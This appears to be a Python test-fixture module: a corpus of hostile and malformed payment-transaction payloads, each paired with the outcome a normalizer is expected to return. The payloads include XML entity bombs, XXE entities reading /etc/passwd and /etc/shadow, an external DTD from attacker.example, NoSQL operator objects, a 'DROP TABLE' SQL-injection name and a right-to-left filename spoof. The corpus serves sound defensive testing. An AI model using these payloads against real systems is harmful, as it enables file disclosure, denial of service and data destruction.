"""Hostile and malformed `raw_transactions` payloads, each with its expected outcome.

Every `Case` holds the two JSON column texts exactly as they are inserted (`data`,
`merchant`), so the same corpus drives the pure normalizer (`tests/unit/normalize/
test_hostile_corpus.py`) and a real stream through PostgreSQL (`tests/integration/
test_hostile_stream.py`). It is a Python module rather than a JSON file only so that the
1 MB and 5,000-digit payloads are built at import instead of being checked in.

Outcomes: `ok(...)` (accepted; the given `Canonical` fields must match, `amount` compared
as its exact decimal text) or `no(reason)` (rejected with exactly that reason).

`storable=False` marks texts that PostgreSQL `jsonb` refuses (`\\u0000`, lone surrogates,
raw control characters, bare NaN/Infinity tokens, a BOM): they can only ever reach the
normalizer through some other path, so they are tested at the unit level only. `stored`
overrides the expectation after the `jsonb` round trip when Postgres itself changes the
value (it has no negative zero: `-0` is sent to the streamer as `0`).
"""

from __future__ import annotations

import json
from collections.abc import Mapping
from dataclasses import dataclass, field
from types import MappingProxyType
from typing import Final

MB: Final = 1 << 20
MERCHANT_ID: Final = "5b3a1f2e-0c4d-4e7a-9a61-7f0d2c9b8e11"
MERCHANT: Final = json.dumps({"id": MERCHANT_ID, "name": "Hostile Corp", "country": "CO"})


@dataclass(frozen=True)
class Outcome:
    """`reason` None means accepted, with `fields` as the expected canonical values."""

    reason: str | None
    fields: Mapping[str, object] = field(default_factory=lambda: MappingProxyType({}))

    @property
    def accepted(self) -> bool:
        return self.reason is None


def ok(**fields: object) -> Outcome:
    return Outcome(None, MappingProxyType(fields))


def no(reason: str) -> Outcome:
    return Outcome(reason)


@dataclass(frozen=True)
class Case:
    name: str
    category: str
    data: str
    """`raw_transactions.data` as inserted: JSON text."""
    expect: Outcome
    merchant: str = MERCHANT
    """`raw_transactions.merchant` as inserted: JSON text."""
    storable: bool = True
    """Whether PostgreSQL `jsonb` accepts both texts (else: unit level only)."""
    stored: Outcome | None = None
    """Expectation after the `jsonb` round trip, when it differs from `expect`."""

    @property
    def stream_expect(self) -> Outcome:
        return self.stored or self.expect

    def __repr__(self) -> str:  # pytest ids and failure messages: never the 1 MB payloads
        return f"Case({self.name})"


def dumps(value: object) -> str:
    """JSON text as a client would send it (non-ASCII and controls as \\u escapes)."""
    return json.dumps(value)


def stripe(**changes: object) -> dict[str, object]:
    base: dict[str, object] = {"amt": "12.50", "p_id": "Stripe", "server_txt": "APPROVED"}
    return {**base, **changes}


def payu(value: object, currency: object = "USD", **changes: object) -> dict[str, object]:
    base: dict[str, object] = {
        "provider": "PayU",
        "status": "APPROVED",
        "origin_iso": "AR",
        "amount_details": {"value": value, "currency": currency},
    }
    return {**base, **changes}


def xml(content: str) -> str:
    return dumps({"type": "XML_BLOB", "content": content})


def merchant(name: object = "Hostile Corp", **extra: object) -> str:
    return dumps({"id": MERCHANT_ID, "name": name, "country": "CO", **extra})


def nested(depth: int) -> str:
    return "[" * depth + "]" * depth


BILLION_LAUGHS: Final = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10 if i > 1 else "&lol;" * 10}">'
        for i in range(1, 10)
    )
    + "]><Tx><Val>1</Val><Stat>&lol9;</Stat></Tx>"
)
QUADRATIC_BLOWUP: Final = (
    f'<?xml version="1.0"?><!DOCTYPE Tx [<!ENTITY a "{"A" * 50_000}">]>'
    f"<Tx><Val>1</Val><Stat>{'&a;' * 50_000}</Stat></Tx>"
)  # 200 KB of text that would expand to 2.5 GB: under the size cap, so the DTD decides
XXE: Final = (
    '<?xml version="1.0"?><!DOCTYPE Tx [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    "<Tx><Val>1</Val><Stat>&xxe;</Stat></Tx>"
)
DEEP_XML: Final = "<Tx><Val>1</Val><Deep>" + "<a>" * 20_000 + "</a>" * 20_000 + "</Deep></Tx>"
RLO: Final = "\u202e"  # RIGHT-TO-LEFT OVERRIDE
CONTROLS: Final = "a\u0001b\u0007c\u001b[31md\u007fe\u0085f\tg\r\nh"
HUGE: Final = "x" * MB

CORPUS: Final[tuple[Case, ...]] = (
    # --- XML bombs, entities, any DTD (bounded time and memory) ---------------------
    Case("billion_laughs", "xml_dtd", xml(BILLION_LAUGHS), no("unsafe_xml")),
    Case("quadratic_blowup", "xml_dtd", xml(QUADRATIC_BLOWUP), no("unsafe_xml")),
    Case(
        "quadratic_blowup_over_cap",
        "xml_dtd",
        xml(QUADRATIC_BLOWUP.replace("&a;" * 50_000, "&a;" * 200_000)),
        no("payload_too_large"),
    ),
    Case("external_entity_file", "xml_dtd", xml(XXE), no("unsafe_xml")),
    Case(
        "external_dtd_http",
        "xml_dtd",
        xml('<!DOCTYPE Tx SYSTEM "http://attacker.example/evil.dtd"><Tx><Val>1</Val></Tx>'),
        no("unsafe_xml"),
    ),
    Case(
        "parameter_entity",
        "xml_dtd",
        xml('<!DOCTYPE Tx [<!ENTITY % p SYSTEM "file:///etc/shadow"> %p;]><Tx><Val>1</Val></Tx>'),
        no("unsafe_xml"),
    ),
    Case(
        "harmless_internal_dtd",
        "xml_dtd",
        xml("<!DOCTYPE Tx [<!ELEMENT Tx ANY>]><Tx><Val>1</Val></Tx>"),
        no("unsafe_xml"),
    ),
    Case(
        "xinclude_not_processed",
        "xml_dtd",
        xml(
            '<Tx xmlns:xi="http://www.w3.org/2001/XInclude">'
            '<xi:include href="file:///etc/passwd" parse="text"/><Val>7</Val></Tx>'
        ),
        ok(amount="7", source_format="xml", provider_status=None),
    ),
    # --- malformed XML ----------------------------------------------------------------
    Case("xml_unclosed", "xml_malformed", xml("<Tx><Val>1</Val"), no("malformed_xml")),
    Case(
        "xml_mismatched_tags",
        "xml_malformed",
        xml("<Tx><Val>1</Stat></Tx>"),
        no("malformed_xml"),
    ),
    Case(
        "xml_control_character",
        "xml_malformed",
        xml("<Tx><Val>1</Val><Stat>\u0002</Stat></Tx>"),
        no("malformed_xml"),
    ),
    Case(
        "xml_two_amounts",
        "xml_malformed",
        xml("<Tx><Val>1</Val><Val>1000000</Val></Tx>"),
        no("malformed_xml"),
    ),
    Case(
        "xml_content_not_a_string",
        "xml_malformed",
        dumps({"type": "XML_BLOB", "content": {"Tx": {"Val": 1}}}),
        no("malformed_xml"),
    ),
    Case("xml_deep_nesting", "deep_nesting", xml(DEEP_XML), ok(amount="1", source_format="xml")),
    Case(
        "xml_unclosed_deep",
        "deep_nesting",
        xml("<Tx><Val>1</Val>" + "<a>" * 50_000),
        no("malformed_xml"),
    ),
    # --- JSON nesting -----------------------------------------------------------------
    Case(
        "json_nesting_500_in_extra_key",
        "deep_nesting",
        '{"amt": 3, "p_id": "Stripe", "extra": ' + nested(500) + "}",
        ok(amount="3", provider="stripe"),
    ),
    Case(
        "json_nesting_5000_in_extra_key",
        "deep_nesting",
        '{"amt": 3, "p_id": "Stripe", "extra": ' + nested(5000) + "}",
        no("unrecognized_payload"),
    ),
    Case("json_nesting_10000_as_data", "deep_nesting", nested(10_000), no("unrecognized_payload")),
    Case(
        "merchant_nesting_5000",
        "deep_nesting",
        dumps(stripe()),
        no("invalid_merchant"),
        merchant='{"id": "m", "x": ' + nested(5000) + "}",
    ),
    # --- data / merchant of the wrong shape --------------------------------------------
    Case(
        "data_array",
        "data_not_object",
        '[{"amt": 1, "p_id": "Stripe"}]',
        no("unrecognized_payload"),
    ),
    Case("data_string", "data_not_object", '"XML_BLOB"', no("unrecognized_payload")),
    Case("data_number", "data_not_object", "42", no("unrecognized_payload")),
    Case("data_null", "data_not_object", "null", no("unrecognized_payload")),
    Case("data_true", "data_not_object", "true", no("unrecognized_payload")),
    Case("data_empty_object", "data_not_object", "{}", no("unrecognized_payload")),
    Case(
        "provider_not_a_string",
        "data_not_object",
        dumps(stripe(p_id={"$gt": ""})),
        no("unrecognized_payload"),
    ),
    Case(
        "xml_type_wrong_case",
        "data_not_object",
        dumps({"type": "xml_blob", "content": "<Tx><Val>1</Val></Tx>"}),
        no("unrecognized_payload"),
    ),
    Case(
        "merchant_string",
        "merchant_not_object",
        dumps(stripe()),
        no("invalid_merchant"),
        merchant='"Hostile Corp"',
    ),
    Case(
        "merchant_array",
        "merchant_not_object",
        dumps(stripe()),
        no("invalid_merchant"),
        merchant=dumps([{"id": MERCHANT_ID}]),
    ),
    Case(
        "merchant_null",
        "merchant_not_object",
        dumps(stripe()),
        no("invalid_merchant"),
        merchant="null",
    ),
    Case(
        "merchant_number",
        "merchant_not_object",
        dumps(stripe()),
        no("invalid_merchant"),
        merchant="42",
    ),
    Case(
        "merchant_id_operator_object",
        "merchant_not_object",
        dumps(stripe()),
        no("invalid_merchant"),
        merchant=dumps({"id": {"$ne": None}}),
    ),
    Case(
        "merchant_id_boolean",
        "merchant_not_object",
        dumps(stripe()),
        no("invalid_merchant"),
        merchant=dumps({"id": True}),
    ),
    Case(
        "merchant_name_number",
        "merchant_not_object",
        dumps(stripe()),
        no("invalid_merchant"),
        merchant=merchant(name=1234),
    ),
    # --- amounts --------------------------------------------------------------------------
    Case("amount_nan_string", "amount", dumps(stripe(amt="NaN")), no("invalid_amount")),
    Case("amount_infinity_string", "amount", dumps(stripe(amt="Infinity")), no("invalid_amount")),
    Case("amount_snan_string", "amount", dumps(stripe(amt="sNaN")), no("invalid_amount")),
    Case("amount_minus_inf_string", "amount", dumps(payu("-Infinity")), no("invalid_amount")),
    Case("amount_negative_number", "amount", dumps(stripe(amt=-5)), no("invalid_amount")),
    Case("amount_negative_string", "amount", dumps(payu("-5.00")), no("invalid_amount")),
    Case(
        "amount_negative_zero",
        "amount",
        '{"amt": -0, "p_id": "Stripe"}',
        no("invalid_amount"),
        stored=ok(amount="0"),  # jsonb has no negative zero: the streamer receives 0
    ),
    Case(
        "amount_duplicate_key_negative_last",
        "amount",
        '{"amt": 5, "p_id": "Stripe", "amt": -5}',
        no("invalid_amount"),  # the last key wins, in jsonb and in the normalizer alike
    ),
    Case("amount_exponent_string", "amount", dumps(stripe(amt="1e3")), no("invalid_amount")),
    Case("amount_exponent_string_upper", "amount", dumps(payu("1E+2")), no("invalid_amount")),
    Case(
        "amount_exponent_number",
        "amount",
        '{"amt": 1E+2, "p_id": "Stripe"}',
        ok(amount="100"),  # a JSON number is judged by value (jsonb prints it as 100)
    ),
    Case("amount_plus_sign", "amount", dumps(stripe(amt="+5")), no("invalid_amount")),
    Case("amount_hex", "amount", dumps(stripe(amt="0x1A")), no("invalid_amount")),
    Case("amount_thousands_comma", "amount", dumps(payu("1,000.00")), no("invalid_amount")),
    Case(
        "amount_arabic_indic_digits",
        "amount",
        dumps(stripe(amt="\u0661\u0662\u0663")),
        no("invalid_amount"),
    ),
    Case(
        "amount_fullwidth_digits", "amount", dumps(stripe(amt="\uff11\uff12")), no("invalid_amount")
    ),
    Case(
        "amount_devanagari_in_xml",
        "amount",
        xml("<Tx><Val>\u0967\u0968</Val></Tx>"),
        no("invalid_amount"),
    ),
    Case("amount_underscores", "amount", dumps(stripe(amt="1_000")), no("invalid_amount")),
    Case("amount_true", "amount", dumps(stripe(amt=True)), no("invalid_amount")),
    Case("amount_false_payu", "amount", dumps(payu(False)), no("invalid_amount")),
    Case("amount_object", "amount", dumps(stripe(amt={"value": 1})), no("invalid_amount")),
    Case("amount_array", "amount", dumps(payu([1])), no("invalid_amount")),
    Case(
        "amount_details_string",
        "amount",
        dumps({**payu(1), "amount_details": "1 USD"}),
        no("invalid_amount"),
    ),
    Case(
        "amount_5000_digit_number",
        "amount",
        '{"amt": ' + "9" * 5000 + ', "p_id": "x"}',
        no("invalid_amount"),
    ),
    Case("amount_5000_digit_string", "amount", dumps(stripe(amt="9" * 5000)), no("invalid_amount")),
    Case(
        "amount_19_integer_digits",
        "amount",
        dumps(stripe(amt="1" + "0" * 18)),
        no("invalid_amount"),
    ),
    Case("amount_1e400_number", "amount", '{"amt": 1e400, "p_id": "x"}', no("invalid_amount")),
    Case(
        "amount_1e-400_number", "amount", '{"amt": 1e-400, "p_id": "x"}', no("invalid_amount")
    ),  # 400 fraction digits, over the 32-digit sanity cap
    Case(
        "amount_float_precision_trap",
        "amount",
        '{"amt": 0.10000000000000000555, "p_id": "x"}',
        ok(amount="0.10000000000000000555"),  # exact, never the double 0.1
    ),
    Case("amount_1mb_leading_zeros", "amount", dumps(stripe(amt="0" * MB + "7")), ok(amount="7")),
    Case("amount_1mb_digits", "huge", dumps(stripe(amt="1" * MB)), no("invalid_amount")),
    # --- decimals beyond the currency's minor unit ---------------------------------------
    Case("jpy_with_decimals", "scale", dumps(payu(100.5, "JPY")), no("invalid_amount")),
    Case("usd_three_decimals", "scale", dumps(payu("1.005")), no("invalid_amount")),
    Case("kwd_four_decimals", "scale", dumps(payu("1.0005", "KWD")), no("invalid_amount")),
    Case(
        "clp_in_xml_with_cents",
        "scale",
        xml("<Tx><Val>10.5</Val><Cur>CLP</Cur></Tx>"),
        no("invalid_amount"),
    ),
    Case(
        "kwd_three_decimals_ok",
        "scale",
        dumps(payu("1.005", "KWD")),
        ok(amount="1.005", currency="KWD"),
    ),
    Case(
        "usd_trailing_zero_ok",
        "scale",
        '{"amt": 10.50, "currency": "usd", "p_id": "x"}',
        ok(amount="10.50", currency="USD"),
    ),
    # --- countries ------------------------------------------------------------------------
    Case("country_alpha3", "country", dumps(payu(1, origin_iso="ARG")), ok(country="AR")),
    Case("country_alpha3_lower", "country", dumps(stripe(card_country="gbr")), ok(country="GB")),
    Case("country_uk_alias", "country", dumps(stripe(card_country="UK")), ok(country="GB")),
    Case(
        "merchant_country_alpha3",
        "country",
        dumps(stripe()),
        ok(merchant_country="PE"),
        merchant=dumps({"id": MERCHANT_ID, "country": "PER"}),
    ),
    Case("country_unassigned", "country", dumps(stripe(card_country="ZZ")), no("invalid_country")),
    Case(
        "country_trailing_space",
        "country",
        dumps(stripe(card_country="ES ")),
        no("invalid_country"),
    ),
    Case(
        "country_dotless_i", "country", dumps(payu(1, origin_iso="\u0131n")), no("invalid_country")
    ),
    Case("country_numeric", "country", dumps(payu(1, origin_iso=724)), no("invalid_country")),
    Case(
        "country_xml_bad",
        "country",
        xml("<Tx><Val>1</Val><Org>EU</Org></Tx>"),
        no("invalid_country"),
    ),
    Case(
        "merchant_country_bad",
        "country",
        dumps(stripe()),
        no("invalid_country"),
        merchant=dumps({"id": MERCHANT_ID, "country": "XYZ"}),
    ),
    # --- currencies -----------------------------------------------------------------------
    Case("currency_symbol", "currency", dumps(payu(1, "US$")), no("invalid_currency")),
    Case("currency_numeric_code", "currency", dumps(payu(1, "840")), no("invalid_currency")),
    Case("currency_number", "currency", dumps(payu(1, 840)), no("invalid_currency")),
    Case(
        "currency_trailing_space",
        "currency",
        dumps(stripe(currency="EUR ")),
        no("invalid_currency"),
    ),
    Case(
        "currency_cyrillic_e",
        "currency",
        dumps(stripe(currency="\u0415UR")),
        no("invalid_currency"),
    ),
    Case(
        "currency_four_letters",
        "currency",
        xml("<Tx><Val>1</Val><Cur>EURO</Cur></Tx>"),
        no("invalid_currency"),
    ),
    Case(
        "currency_lower_ok",
        "currency",
        dumps(payu("3.10", "eur")),
        ok(currency="EUR", amount="3.10"),
    ),
    # --- merchant names: control characters and bidi overrides are stored as given --------
    Case(
        "merchant_name_rtl_override",
        "text",
        dumps(stripe()),
        ok(merchant_name=f"{RLO}gnp.exe{RLO}", merchant_id=MERCHANT_ID),
        merchant=merchant(name=f"{RLO}gnp.exe{RLO}"),
    ),
    Case(
        "merchant_name_controls",
        "text",
        dumps(stripe()),
        ok(merchant_name=CONTROLS),
        merchant=merchant(name=CONTROLS),
    ),
    Case(
        "merchant_name_copy_null_marker",
        "text",
        dumps(stripe()),
        ok(merchant_name="\\N"),
        merchant=merchant(name="\\N"),
    ),
    Case(
        "merchant_name_sql",
        "text",
        dumps(stripe()),
        ok(merchant_name="x'); DROP TABLE transactions;--"),
        merchant=merchant(name="x'); DROP TABLE transactions;--"),
    ),
    Case(
        "provider_status_controls_rtl",
        "text",
        dumps(stripe(server_txt=f"OK{RLO}\u0008")),
        ok(provider_status=f"OK{RLO}\u0008", status="unknown"),
    ),
    Case(
        "status_long_s_trick",
        "text",
        dumps(stripe(server_txt="\u017fuccess")),
        ok(status="unknown", provider_status="\u017fuccess"),
    ),
    # --- huge fields (1 MB) -----------------------------------------------------------------
    Case(
        "merchant_name_1mb",
        "huge",
        dumps(stripe()),
        ok(merchant_name=HUGE),
        merchant=merchant(name=HUGE),
    ),
    Case(
        "provider_status_1mb",
        "huge",
        dumps(stripe(server_txt=HUGE)),
        ok(provider_status=HUGE, status="unknown"),
    ),
    Case("key_1mb", "huge", dumps({**stripe(), HUGE: 1}), ok(amount="12.50")),
    Case(
        "xml_content_1mb",
        "huge",
        xml("<Tx><Val>1</Val><Pad>" + HUGE + "</Pad></Tx>"),
        no("payload_too_large"),
    ),
    Case(
        "merchant_mismatch_xml",
        "text",
        xml("<Tx><MerchID>someone-else</MerchID><Val>1</Val></Tx>"),
        no("merchant_mismatch"),
    ),
    # --- NUL and lone surrogates: jsonb refuses them, so unit level only -------------------
    Case(
        "merchant_name_nul",
        "nul_surrogate",
        dumps(stripe()),
        no("invalid_text"),
        merchant=merchant(name="Hostile\u0000Corp"),
        storable=False,
    ),
    Case(
        "merchant_id_lone_surrogate",
        "nul_surrogate",
        dumps(stripe()),
        no("invalid_text"),
        merchant=dumps({"id": "m-\udfff"}),
        storable=False,
    ),
    Case(
        "provider_status_nul",
        "nul_surrogate",
        dumps(stripe(server_txt="OK\u0000")),
        no("invalid_text"),
        storable=False,
    ),
    Case(
        "provider_nul",
        "nul_surrogate",
        dumps(stripe(p_id="Stripe\u0000")),
        no("invalid_text"),
        storable=False,
    ),
    Case(
        "extra_key_lone_surrogate",
        "nul_surrogate",
        dumps({**stripe(), "note": "\ud800"}),
        no("invalid_text"),
        storable=False,
    ),
    Case(
        "key_nul",
        "nul_surrogate",
        dumps({**stripe(), "k\u0000": 1}),
        no("invalid_text"),
        storable=False,
    ),
    Case(
        "xml_nul",
        "nul_surrogate",
        xml("<Tx><Val>1\u0000</Val></Tx>"),
        no("malformed_xml"),
        storable=False,
    ),
    Case(
        "xml_lone_surrogate",
        "nul_surrogate",
        xml("<Tx><Val>1</Val><Stat>\udbff</Stat></Tx>"),
        no("malformed_xml"),
        storable=False,
    ),
    Case(
        "raw_nul_byte_in_string",
        "nul_surrogate",
        '{"amt": 1, "p_id": "a\x00b"}',
        no("unrecognized_payload"),
        storable=False,
    ),
    Case(
        "raw_control_in_string",
        "nul_surrogate",
        '{"amt": 1, "p_id": "a\x01b"}',
        no("unrecognized_payload"),
        storable=False,
    ),
    Case(
        "bare_nan_token",
        "nul_surrogate",
        '{"amt": NaN, "p_id": "x"}',
        no("invalid_amount"),
        storable=False,
    ),
    Case(
        "bare_infinity_token",
        "nul_surrogate",
        '{"amt": Infinity, "p_id": "x"}',
        no("invalid_amount"),
        storable=False,
    ),
    Case(
        "byte_order_mark",
        "nul_surrogate",
        "\ufeff" + dumps(stripe()),
        no("unrecognized_payload"),
        storable=False,
    ),
)

STORABLE: Final = tuple(case for case in CORPUS if case.storable)
